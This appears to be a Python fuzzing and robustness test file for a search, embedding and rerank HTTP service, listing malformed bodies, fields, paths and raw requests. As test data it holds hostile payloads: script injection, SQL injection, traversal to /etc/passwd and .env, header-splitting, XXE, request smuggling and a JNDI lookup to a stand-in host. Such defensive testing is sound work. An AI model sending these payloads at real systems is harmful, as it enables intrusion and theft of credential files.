"""What strangers send, and what they must be answered: (name, bytes, statuses)."""

import json

from tests.serving.raw import request

SCRIPT = "<script>alert(document.cookie)</script>\"'><img src=x onerror=alert(1)>"
EMBED, SEARCH, RERANK, EVENTS = "/v1/embeddings", "/search", "/v1/rerank", "/events"


def _embed(**fields):
    return request(EMBED, {"model": "tuned", "input": "refund", **fields})


def _search(**fields):
    return request(SEARCH, {"query": "refund", **fields})


def _rerank(**fields):
    return request(RERANK, {"query": "refund", "documents": ["refund"], **fields})


def _event(**fields):
    return request(EVENTS, {"query_id": "q1", "action_name": "click", "object_id": "a01", **fields})


BODIES = {
    "nothing": b"",
    "half an object": b'{"query": "refund"',
    "a list": b"[]",
    "a number": b"1",
    "null": b"null",
    "two objects": b'{"query": "a"}{"query": "b"}',
    "a comma too many": b'{"query": "a",}',
    "single quotes": b"{'query': 'a'}",
    "a pickle": b"\x80\x04\x95\x00",
    "Latin-1": b'{"query": "caf\xe9"}',
    "overlong UTF-8": b'{"query": "\xc0\xaf"}',
    "a surrogate in UTF-8": b'{"query": "\xed\xa0\x80"}',
    "half a surrogate pair": b'{"query": "\\ud800"}',
    "a million brackets": b"[" * 1_000_000,
    "a million objects": b'{"a":' * 500_000,
    "a deep query": b'{"query": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "a number of 100,000 digits": b'{"query": "a", "k": ' + b"9" * 100_000 + b"}",
    "1e400": b'{"query": "a", "k": 1e400}',
    "NaN": b'{"query": "a", "min_confidence": NaN}',
    "Infinity": b'{"query": "a", "min_confidence": Infinity}',
    "a query twice, the second none": b'{"query": "a", "query": 5}',
    "a hundred thousand fields": json.dumps({str(n): n for n in range(100_000)}).encode(),
    "a field of 100,000 letters": json.dumps({"a" * 100_000: 1}).encode(),
}

FIELDS = {
    "a query of 100,000 characters": _search(query="refund " * 14_286),
    "an empty query": _search(query=""),
    "a query that is a list": _search(query=["refund"]),
    "a query that is an object": _search(query={"$ne": ""}),
    "k of 0": _search(k=0),
    "k of a billion": _search(k=10**9),
    "k that is true": _search(k=True),
    "a confidence of 2": _search(min_confidence=2),
    "keywords that are a text": _search(keywords="' OR 1=1 --"),
    "a version below 1": _search(version=-1),
    "a query_id that leads elsewhere": _search(query_id="../../etc/passwd"),
    "a query_id with a line break": _search(query_id="a\r\nX-Evil: 1"),
    "a client_id with a script": _search(client_id=SCRIPT),
    "an unknown field with a script": _search(**{SCRIPT: SCRIPT}),
    "__proto__": _search(__proto__={"admin": True}),
    "a model that is a path": _embed(model="../../../etc/passwd"),
    "a model with a script": _embed(model=SCRIPT),
    "tokens": _embed(input=[1, 2, 3]),
    "an empty text among texts": _embed(input=["refund", ""]),
    "2,049 texts": _embed(input=["refund"] * 2049),
    "a text of 100,001 characters": _embed(input="a" * 100_001),
    "ten texts of 100,000 characters": _embed(input=["a " * 50_000] * 10),
    "dimensions of 1": _embed(dimensions=1),
    "dimensions of 10**30": _embed(dimensions=10**30),
    "1,001 documents": _rerank(documents=["a"] * 1001),
    "no documents": _rerank(documents=[]),
    "a document that is a number": _rerank(documents=[5]),
    "a document without text": _rerank(documents=[{"title": "a"}]),
    "a million documents that are numbers": _rerank(documents=[5] * 1_000_000),
    "top_n of 0": _rerank(top_n=0),
    "an event of no search": _event(),
    "an event with a script": _event(object_id=SCRIPT),
    "an event of a kind of its own": _event(action_name=SCRIPT),
    "an event of a query_id that leads elsewhere": _event(query_id="../../etc/passwd"),
    "a document of 4 MB": _event(object_id="a" * 3_900_000),
    "a stay of 1e300 seconds": _event(action_name="leave", dwell_seconds=1e300),
    "a time of one's own": _event(timestamp="0001-01-01"),
    "a deep event": request(EVENTS, b'{"query_id": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    "a comparison of 100,000 characters": request("/compare", {"query": "refund " * 14_286}),
    "a document that leads elsewhere": request("/document?id=../../etc/passwd"),
    "a document with a script": request("/document?id=%3Cscript%3Ealert(1)%3C/script%3E"),
    "a document of bytes that are no text": request("/document?id=%ff%fe"),
}

HARMLESS = {
    "UTF-16": request(SEARCH, '{"query": "a"}'.encode("utf-16")),
    "a deep document": _rerank(documents=[{"text": json.loads("[" * 900 + "]" * 900)}]),
    "a query with a script": _search(query=SCRIPT),
    "a query with NUL and an escape": _search(query="a\x00b\x1b[31m"),
    "a query that turns the text around": _search(query="\u202erefund\u202c\ufeff"),
    "a query of combining marks": _search(query="e" + "\u0301" * 5000),
    "a query of SQL": _search(query="'; DROP TABLE articles; --"),
    "a query in the template language": _search(query="{{7*7}} ${jndi:ldap://evil.example/a}"),
    "a text of 100,000 characters": _embed(input="a " * 50_000),
    "2,048 texts": _embed(input=["a"] * 2048),
    "a document with a script": _rerank(documents=[SCRIPT], return_documents=True),
    "a whole number with a point": request(EMBED, {"model": "tuned", "input": "a", "dimensions": 32.0}),
}

PATHS = [
    "/../../../../etc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/..%2f..%2fetc%2fpasswd",
    "/static/../../workspace.json",
    "//etc/passwd",
    "/search/../metrics",
    "/search%00.html",
    "/" + "a" * 10_000,
    "/docs/..;/metrics",
    "/%ff%fe",
    "/search;jsessionid=1",
    "/.git/config",
    "/.env",
]

HTTP = {
    "no HTTP": b"hello\r\n\r\n",
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    "10,000 headers": request(SEARCH, {"query": "a"}, headers=[f"X-{n}: {n}".encode() for n in range(10_000)]),
    "a header of a megabyte": request(SEARCH, {"query": "a"}, headers=[b"X-Large: " + b"a" * 1_000_000]),
    "a line of a megabyte": request("/" + "a" * 1_000_000),
    "a header without a colon": request(SEARCH, {"query": "a"}, headers=[b"nonsense"]),
    "a header with NUL": request(SEARCH, {"query": "a"}, headers=[b"X-A: a\x00b"]),
    "two lengths": request(SEARCH, {"query": "a"}, headers=[b"Content-Length: 3"]),
    "a negative length": request(
        "/search", method="POST", headers=[b"Content-Length: -5", b"Content-Type: application/json"]
    ),
    "a length and chunks": request(SEARCH, {"query": "a"}, headers=[b"Transfer-Encoding: chunked"]),
    "an endless length": request("/search", method="POST", headers=[b"Content-Length: " + b"9" * 30]),
    "a length of 5 GB": request(
        "/search", method="POST", headers=[b"Content-Length: 5000000000", b"Content-Type: application/json"]
    ),
    "a chunk that lies": request(
        "/search",
        method="POST",
        headers=[b"Transfer-Encoding: chunked", b"Content-Type: application/json", b"", b"FFFFFFFFFFFFFFFF", b"{}"],
    ),
    "another host": b"GET /healthz HTTP/1.1\r\nHost: rebound.example\r\nConnection: close\r\n\r\n",
    "no host": b"GET /healthz HTTP/1.1\r\nConnection: close\r\n\r\n",
    "a form": request(SEARCH, b"query=a", headers=[]).replace(b"application/json", b"text/plain"),
    "XML with an entity": request(SEARCH, b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    "no key": request(SEARCH, {"query": "a"}).replace(b"Authorization", b"X-Nothing"),
    "a wrong key": request(SEARCH, {"query": "a"}).replace(b"Bearer a-key", b"Bearer b-key"),
    "a key in the query": b"GET /metrics?key=a HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
    "TRACE": request("/search", method="TRACE"),
    "CONNECT": request("evil.example:443", method="CONNECT"),
    "a method of its own": request("/search", method="BREW"),
    "an upgrade": request("/search", headers=[b"Upgrade: websocket", b"Connection: Upgrade"]),
    "a request number with a line break": request("/healthz", headers=[b"X-Request-ID: a%0d%0aX-Evil: 1"]),
}
